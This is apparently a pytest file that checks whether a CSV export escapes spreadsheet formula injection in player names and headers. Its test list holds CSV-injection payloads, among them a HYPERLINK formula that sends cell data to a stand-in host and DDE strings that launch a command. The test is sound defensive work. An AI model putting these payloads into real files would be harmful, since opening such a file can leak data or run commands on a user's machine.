"""Fault 34: an export that holds formulas. Text is neutralised, numbers stay as they are."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from parivision.published.exports import as_csv

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_player_named_like_a_formula_is_inert(attack: str) -> None:
    table = pd.DataFrame({"player_name": [attack], "points_above": [-12.5], "attempts": [300], attack: [-1]})
    text = as_csv(table)
    header, row = csv.reader(io.StringIO(text, newline=""))
    for cell in (row[0], header[3]):
        assert cell.removeprefix("'") == attack
        assert cell[0] in "'\"", "a spreadsheet would run this cell"
    assert row[1:] == ["-12.5", "300", "-1"]
